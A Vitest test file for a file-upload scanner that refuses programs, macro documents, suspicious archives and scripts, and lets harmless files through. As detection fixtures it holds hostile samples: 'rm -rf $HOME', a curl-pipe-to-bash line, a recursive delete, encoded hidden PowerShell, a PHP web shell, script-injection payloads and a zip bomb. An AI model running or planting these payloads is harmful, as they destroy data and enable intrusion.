import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { type BuiltEntry, buildZip } from '../support/zip-builder.ts';
import { noise } from '../zip/zip-files.ts';
import {
  compoundFile,
  ELF,
  INSTALLER,
  JPEG,
  MACRO_DOC,
  MP4,
  odfFile,
  PLAIN_DOC,
  PNG,
  pdf,
  SHORTCUT,
  windowsProgram,
  wordFile,
} from './samples.ts';
import { latin, reasonIn } from './scanned.ts';

const PROGRAM = windowsProgram();
const KB = 1024;

const PROGRAMS: readonly (readonly [what: string, bytes: Uint8Array])[] = [
  ['a Windows program', PROGRAM],
  ['a DOS program', Buffer.concat([latin('MZ'), Buffer.alloc(500)])],
  [
    'a program whose PE header lies far behind',
    Buffer.concat([PROGRAM.subarray(0, 60), Buffer.from([0, 0x20, 0, 0]), noise(9000)]),
  ],
  ['ELF', ELF],
  ...['feedface', 'feedfacf', 'cefaedfe', 'cffaedfe', 'cafebabe', 'cafebabf', 'bebafeca', 'bfbafeca'].map(
    (magic): readonly [string, Uint8Array] => [
      `Mach-O or Java (${magic})`,
      Buffer.concat([Buffer.from(magic, 'hex'), noise(60)]),
    ],
  ),
  ['Android bytecode', latin('dex\n035\0')],
  ['WebAssembly', latin('\0asm\x01\0\0\0')],
  ['a Windows shortcut', SHORTCUT],
  ['compiled help', latin('ITSF\x03\0\0\0')],
  ['a Debian package', latin('!<arch>\ndebian-binary   ')],
  ['an encoded script', latin('#@~^DgAAAA==')],
  ['a Flash film', latin('CWS\x0a\x10\0\0\0')],
  ['an Excel 4.0 macro sheet of its own', latin('\x09\x04\x06\0\0\0\x40\0')],
  ['a disk image', Buffer.concat([Buffer.alloc(32 * KB), latin('\x01CD001\x01'), Buffer.alloc(500)])],
  ['the test file of virus scanners', latin('X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR')],
];

const DOCUMENTS: readonly (readonly [what: string, bytes: Uint8Array])[] = [
  ['an old Word file with macros', MACRO_DOC],
  ['one with a macro storage alone', compoundFile([{ name: 'Macros', isFolder: true }])],
  ['an old Excel file with macros', compoundFile([{ name: 'Workbook' }, { name: '_VBA_PROJECT_CUR', isFolder: true }])],
  ['one with an Excel 4.0 macro sheet', compoundFile([{ name: 'Workbook' }], latin('\x09\x08\x10\0\0\x06\x40\0'))],
  [
    'an old presentation with macros',
    compoundFile(
      [{ name: 'PowerPoint Document' }],
      latin('\x1f\0\xff\x03\x14\0\0\0\x02\0\0\x04\x0c\0\0\0\x05\0\0\0\x01\0\0\0'),
    ),
  ],
  [
    'macros far behind the beginning',
    compoundFile(
      [{ name: 'WordDocument' }],
      Buffer.concat([noise(200 * KB), compoundFile([{ name: '_VBA_PROJECT' }])]),
    ),
  ],
  ['a Windows installer', INSTALLER],
  ['an encrypted Office file', compoundFile([{ name: 'EncryptionInfo' }, { name: 'EncryptedPackage' }])],
  ['a program inside an old Word file', compoundFile([{ name: '\x01Ole10Native' }], PROGRAM)],
  [
    'a packed script inside an old Word file',
    compoundFile([{ name: '\x01Ole10Native' }], latin('\x02\0run.vbs\0C:\\run.vbs\0')),
  ],
  ['a Word file with macros', wordFile([{ name: 'word/vbaProject.bin', bytes: MACRO_DOC, method: 8 }])],
  ['a Word file that is meant for macros', wordFile([], 'application/vnd.ms-word.document.macroEnabled.main+xml')],
  [
    'a Word file with macros under another name',
    wordFile([{ name: 'word/media/image2.jpeg', bytes: MACRO_DOC, method: 8 }]),
  ],
  [
    'an Excel file with an Excel 4.0 sheet',
    buildZip([{ name: 'xl/workbook.xml' }, { name: 'xl/macrosheets/sheet1.xml', bytes: '<xm:macrosheet/>' }]),
  ],
  [
    'a Word file with a program in it',
    wordFile([
      {
        name: 'word/embeddings/oleObject1.bin',
        bytes: compoundFile([{ name: '\x01Ole10Native' }], PROGRAM),
        method: 8,
      },
    ]),
  ],
  [
    'a LibreOffice file with Basic',
    odfFile([{ name: 'Basic/Standard/Module1.xml', bytes: '<script:module/>', method: 8 }]),
  ],
  [
    'a LibreOffice file with Basic that does not begin as one',
    buildZip([{ name: 'content.xml' }, { name: 'Basic/Standard/Module1.xml', bytes: '<script:module/>', method: 8 }]),
  ],
  ['a LibreOffice file with Python', odfFile([{ name: 'Scripts/python/evil.txt', bytes: 'x' }])],
  ['RTF with a packed file', latin('{\\rtf1{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 0105}}}')],
  ['RTF with a program', latin('{\\rtf1{\\object{\\*\\objdata 4D5A90000300}}}')],
  ['a PDF that runs a script', pdf('3 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj')],
  ['a PDF that hides that it runs a script', pdf('3 0 obj\n<< /S /Java#53cript /JS 4 0 R >>\nendobj')],
  ['a PDF that starts a program', pdf('3 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj')],
  ['a PDF with a program in it', pdf('3 0 obj\n<< /Type /Filespec /UF (发票.exe) /EF << /F 4 0 R >> >>\nendobj')],
  [
    'a script far behind in a PDF',
    Buffer.concat([pdf(), noise(300 * KB), latin('<</S/JavaScript/JS(x)>>'), noise(70 * KB)]),
  ],
];

const large = (entry: BuiltEntry): Buffer => buildZip([{ name: '照片/1.jpg', bytes: noise(300 * KB) }, entry]);

const ARCHIVES: readonly (readonly [what: string, bytes: Uint8Array])[] = [
  ...[
    'run.exe',
    'a/b/RUN.DLL',
    'x.scr',
    'x.bat',
    'x.cmd',
    'x.ps1',
    'x.vbs',
    'x.js',
    'x.jar',
    'x.lnk',
    'x.msi',
    'x.hta',
    'x.docm',
    'x.exe ',
    'x.exe.',
  ].map((name): readonly [string, Uint8Array] => [`an archive with ${name}`, large({ name, bytes: 'x' })]),
  ['a program under a harmless name, stored', large({ name: '照片/2.jpg', bytes: PROGRAM })],
  ['a program under a harmless name, deflated', large({ name: '照片/2.jpg', bytes: PROGRAM, method: 8 })],
  [
    'a program whose size stands behind it',
    large({ name: '照片/2.jpg', bytes: PROGRAM, method: 8, descriptor: 'signed' }),
  ],
  ['a program that its header calls empty', large({ name: '照片/2.jpg', bytes: PROGRAM, local: { packed: 0 } })],
  ['a script under a harmless name', large({ name: '说明.txt', bytes: '@echo off\r\ndel x', method: 8 })],
  ['an archive in an archive, stored', large({ name: 'a.zip', bytes: buildZip([{ name: 'x.exe' }]) })],
  [
    'an archive in an archive, deflated',
    large({ name: 'a.zip', bytes: buildZip([{ name: '长'.repeat(90) }, { name: 'x.exe' }]), method: 8 }),
  ],
  [
    'a Word file with macros in an archive',
    large({ name: 'a.doc', bytes: wordFile([{ name: 'word/vbaProject.bin', bytes: 'x' }]), method: 8 }),
  ],
  [
    'a Java archive',
    buildZip([
      { name: 'META-INF/MANIFEST.MF', bytes: 'Manifest-Version: 1.0\n' },
      { name: 'A.class', bytes: latin('\xca\xfe\xba\xbe') },
    ]),
  ],
  ['an Android program', buildZip([{ name: 'AndroidManifest.xml' }, { name: 'classes.dex', bytes: 'dex\n' }])],
  ['an encrypted archive', large({ name: '照片/2.jpg', flags: 0x801, bytes: 'x' })],
  ['an entry that only the directory names', buildZip([{ name: 'a.jpg', central: { name: 'a.exe' } }])],
  ['an entry that no directory lists', buildZip([{ name: 'a.jpg' }, { name: 'a.exe', isListed: false }])],
  [
    'an entry that the one before claims as its data',
    buildZip([{ name: 'a.jpg', local: { packed: 5000, size: 5000 } }, { name: 'a.exe' }]),
  ],
  ['a photo with an archive behind it', Buffer.concat([JPEG, buildZip([{ name: 'a.txt' }])])],
  [
    'a photo with an archive with a comment behind it',
    Buffer.concat([JPEG, buildZip([{ name: 'a.txt' }], { comment: 'x'.repeat(60_000) })]),
  ],
  ['a PDF with an archive behind it', Buffer.concat([pdf(), buildZip([{ name: 'a.txt' }])])],
  ['a text with an archive behind it', Buffer.concat([Buffer.from('序号\n'), buildZip([{ name: 'a.txt' }])])],
];

const SCRIPTS: readonly (readonly [what: string, text: string])[] = [
  ['a shell script', '#!/bin/sh\nrm -rf "$HOME"\n'],
  ['a shell script with a mark before it', '\ufeff#!/usr/bin/env python3\n'],
  ['a shell script without its first line', 'set -e\ncurl -sL http://x/y | bash\n'],
  ['a batch file', '@echo off\r\nstart calc.exe\r\n'],
  ['a batch file in capitals, after comments', 'rem 更新\r\n\r\n@ECHO OFF\r\n'],
  ['a batch file with its own folder', 'cd /d %~dp0\r\nrun\r\n'],
  ['a batch file that deletes', 'del /f /s /q C:\\Users\r\n'],
  ['PowerShell', 'Write-Host "hi"\r\n'],
  ['PowerShell with a variable', '$client = New-Object System.Net.WebClient\n'],
  ['PowerShell after a comment block', ' \n<#\n.SYNOPSIS\n#>\nexit\n'],
  ['a command that calls PowerShell', '请运行 powershell -nop -w hidden -enc SQBFAFgA'],
  ['VBScript', 'Set shell = CreateObject("WScript.Shell")\r\nshell.Run "calc"\r\n'],
  ['VBScript of one line', 'MsgBox "你好"'],
  ['an exported macro', 'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\nEnd Sub\r\n'],
  ['a macro', 'Private Sub Workbook_Open()\r\n  Call Run\r\nEnd Sub\r\n'],
  ['JScript', 'var shell = new ActiveXObject("WScript.Shell");\nshell.Run("calc");\n'],
  ['JavaScript', "'use strict';\nmodule.exports = {};\n"],
  ['JavaScript of one line', 'alert(1)'],
  ['JavaScript with a function', 'function run(a, b) {\n  return a;\n}\n'],
  ['a module', "import { exec } from 'node:child_process';\n"],
  ['Python', 'import os\nos.system("calc")\n'],
  ['Python with a function', 'def run(a):\n    return a\n'],
  ['a batch file that begins like a sound', 'ID3\r\n@echo off\r\n'],
  ['JavaScript that begins like a picture', 'GIF89a=1;\nalert(1);\n'],
  ['PHP', '<?php system($_GET["c"]); ?>'],
  ['a page with a script', '<!doctype html><p>通知</p><script>alert(1)</script>'],
  ['a page with a script in capitals and lines', '<HTML>\n<SCRIPT\nsrc=x.js></SCRIPT>'],
  ['a page that acts on a click', '<html><body><img src="x" onerror="alert(1)">'],
  ['a page with a script for an address', '<html><a href="javascript:alert(1)">查看</a>'],
  ['a program made of a page', '<html><head><hta:application id="x"/></head>'],
  ['a drawing with a script', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
  ['a script component', '<?xml version="1.0"?><scriptlet><script language="VBScript"/></scriptlet>'],
  ['a Word file in XML with macros', '<?xml version="1.0"?><w:wordDocument w:macrosPresent="yes"/>'],
  ['registry entries', 'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software]\r\n'],
  ['an Internet shortcut', '[InternetShortcut]\r\nURL=file://server/x.exe\r\n'],
  ['a Linux starter', '[Desktop Entry]\nType=Application\nExec=sh -c id\n'],
  ['an autostart file', '[autorun]\r\nopen=x.exe\r\n'],
  ['a mail with a program in it', 'MIME-Version: 1.0\r\n\r\nTVqQAAMAAAAEAAAA//8AALgAAAA\r\n'],
  ['a page of Word with macros in it', 'MIME-Version: 1.0\r\n\r\nQWN0aXZlTWltZQAAAfAEAAAA\r\n'],
];

const HARMLESS: readonly (readonly [what: string, bytes: Uint8Array | string])[] = [
  ['nothing', ''],
  ['a photo', JPEG],
  ['a photo with a program behind it, which nothing starts', Buffer.concat([JPEG, PROGRAM])],
  ['a picture', PNG],
  ['a film', MP4],
  ['bytes of no kind', noise(300 * KB)],
  ['a Word file', wordFile()],
  [
    'a Word file with an Excel table in it',
    wordFile([{ name: 'word/embeddings/Microsoft_Excel_Sheet1.xlsx', bytes: wordFile(), method: 8 }]),
  ],
  [
    'a Word file with a formula of the old kind',
    wordFile([
      {
        name: 'word/embeddings/oleObject1.bin',
        bytes: compoundFile([{ name: '\x01Ole' }, { name: 'Equation Native' }]),
        method: 8,
      },
    ]),
  ],
  [
    'a Word file that speaks of scripts',
    wordFile([
      { name: 'word/footnotes.xml', bytes: '<w:t>&lt;script&gt; CreateObject("x") powershell -enc</w:t>', method: 8 },
    ]),
  ],
  [
    'a file as LibreOffice writes it',
    odfFile([{ name: 'Basic/Standard/script-lb.xml', bytes: '<library:library/>', method: 8 }]),
  ],
  [
    'OFD',
    buildZip([
      { name: 'OFD.xml', bytes: '<ofd:OFD/>' },
      { name: 'Doc_0/Document.xml', bytes: '<ofd:Document/>', method: 8 },
    ]),
  ],
  [
    'an archive of photos',
    buildZip([
      { name: '照片/', mode: 0o40755 },
      { name: '照片/1.jpg', bytes: JPEG },
      { name: '照片/2.jpg', bytes: JPEG, method: 8 },
    ]),
  ],
  [
    'an archive whose sizes stand behind',
    buildZip([1, 2, 3].map((each) => ({ name: `${each}.jpg`, bytes: JPEG, method: 8, descriptor: 'signed' as const }))),
  ],
  ['an archive of texts', buildZip([{ name: '说明.txt', bytes: '为民爱民增福祉\n', method: 8 }, { name: '空.txt' }])],
  [
    'an archive of archives',
    buildZip([{ name: 'a.zip', bytes: buildZip([{ name: 'b.docx', bytes: wordFile(), method: 8 }]), method: 8 }]),
  ],
  ['an empty archive', buildZip([])],
  ['an old Word file', PLAIN_DOC],
  ['an old Excel file', compoundFile([{ name: 'Workbook' }], latin('\x09\x08\x10\0\0\x06\x05\0'))],
  [
    'an old Word file that speaks of macros',
    compoundFile([{ name: 'WordDocument' }], Buffer.from('Macros VBA 宏', 'utf16le')),
  ],
  [
    'an old Word file with a PDF in it',
    compoundFile([{ name: '\x01Ole10Native' }], latin('\x02\0附件.pdf\0C:\\附件.pdf\0%PDF-1.7')),
  ],
  ['RAR, which nobody can look into here', latin('Rar!\x1a\x07\x01\0')],
  ['a PDF', pdf()],
  ['a PDF of an invoice with its data', pdf('3 0 obj\n<< /Type /EmbeddedFile /F (invoice.xml) >>\nendobj')],
  ['a PDF with names that begin alike', pdf('3 0 obj\n<< /LaunchPad 1 /JavaScripts 2 >>\nendobj')],
  ['RTF with a formula', latin('{\\rtf1{\\object{\\*\\objclass Equation.3}{\\*\\objdata d0cf11e0}}}')],
  ['a text', '关于打造民政系统新风正气福建“名片”的通知\n一、总体要求\n二、主要任务\n'],
  ['a text in GBK', Buffer.from('b9d8d3dab4f2d4ecc3f1d5fecfb5cdb30d0a', 'hex')],
  ['a text in UTF-16', Buffer.from('\ufeff关于打造民政系统新风正气\r\n', 'utf16le')],
  ['a text that begins like a program', 'MZ,姓名,金额\n1,张三,100\n'],
  ['a table', '序号,行动,任务,责任人,备注\n1,A01,"走访, 慰问",李四,=1+1\n'],
  [
    'English prose',
    'Set the table, call the office, start at nine. If not, go to the hall.\nDel Rey sings from noon.\nFunction rooms are open.\n',
  ],
  ['minutes with brackets', '会议记录(第3次)\n1. 参会: 王五(主任)、赵六(副主任)\n2. 议题 = 四点半课堂;\n'],
  [
    'a page',
    '<!doctype html><meta charset="utf-8"><style>p{color:red}</style><p>报送 only one=1</p><a href="https://www.gov.cn/">政府网</a>',
  ],
  [
    'a table that is a page',
    '<html xmlns:x="urn:schemas-microsoft-com:office:excel"><table><tr><td>序号</td></tr></table></html>',
  ],
  ['a drawing', '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>'],
  ['data', '{"name":"某社区","on":"2021-12-18"}\n'],
  [
    'commands to verify with',
    'unzip 收到的文件.zip\nsha256sum -c manifest-sha256.txt\nopenssl dgst -sm3 -verify signer/public-key.pem\n',
  ],
];

test.for(PROGRAMS)('%s is refused', ([, bytes]) => {
  expect(reasonIn(bytes)).toMatch(/\p{Script=Han}|ELF|LNK/u);
});
test.for(DOCUMENTS)('%s is refused', ([, bytes]) => {
  expect(reasonIn(bytes)).toMatch(/宏|安装包|程序|脚本|加密|文件包/);
});
test.for(ARCHIVES)('%s is refused', ([, bytes]) => {
  expect(reasonIn(bytes)).toMatch(/压缩包|宏|内含/);
});
test.for(SCRIPTS)('%s is refused', ([, text]) => {
  expect(reasonIn(text)).toMatch(/脚本|快捷方式|程序|宏/);
});
test.for(HARMLESS)('%s passes', ([, bytes]) => {
  expect(reasonIn(bytes)).toBeNull();
});

test('a script in UTF-16 is one too, in either order', () => {
  for (const text of [
    'Write-Host "hi"',
    'Windows Registry Editor Version 5.00',
    '<html><script>',
    'x\r\nMsgBox "你好"',
  ]) {
    const bytes = Buffer.from(`\ufeff${text}`, 'utf16le');
    expect(reasonIn(bytes), text).not.toBeNull();
    expect(reasonIn(bytes.swap16()), text).not.toBeNull();
  }
});

test('a script far behind other words is found, a word amid a line is not taken for the beginning of one', () => {
  for (const words of [10 * KB, 64 * KB - 6, 64 * KB - 1, 64 * KB, 200 * KB]) {
    expect(reasonIn(`${'a'.repeat(words)}\r\nMsgBox "x"\r\n`)).not.toBeNull();
    expect(reasonIn(`${'a'.repeat(words)} MsgBox "x" `)).toBeNull();
  }
});

test('an archive that swells without end is refused instead of unpacked', () => {
  const bomb = buildZip([
    { name: 'a.zip', bytes: Buffer.concat([latin('PK\x05\x06'), Buffer.alloc(64 * 1024 * KB)]), method: 8 },
  ]);
  expect(reasonIn(bomb)).toBe('压缩包解开后过大，无法检查');
});

test('an archive within an archive within an archive and so on is not followed for ever', () => {
  let inner = buildZip([{ name: 'a.txt', bytes: '序号' }]);
  for (let depth = 0; depth < 6; depth++)
    inner = buildZip([{ name: `${'长'.repeat(50)}.zip`, bytes: inner, method: 8 }]);
  expect(reasonIn(inner)).toMatch(/太多层/);
});

describe('however it is cut into chunks the result is the same', () => {
  const all = [...PROGRAMS, ...DOCUMENTS, ...ARCHIVES, ...SCRIPTS, ...HARMLESS];
  test.for(all)('%s', ([, bytes]) => {
    const whole = typeof bytes === 'string' ? Buffer.from(bytes) : bytes;
    const expected = reasonIn(whole);
    const sizes = [1, 7, 61, 1021, 4095, 4096, 65_535, 65_536];
    for (const size of whole.length > 100 * KB ? sizes.slice(3) : sizes)
      expect(reasonIn(whole, size), `${size}`).toBe(expected);
  });
});

test('the sample’s evidence is harmless', () => {
  const folder = join(import.meta.dirname, '..', '..', 'assets', 'sample', 'evidence');
  const files = readdirSync(folder);
  expect(files.length).toBeGreaterThan(40);
  for (const file of files) expect(reasonIn(readFileSync(join(folder, file))), file).toBeNull();
});
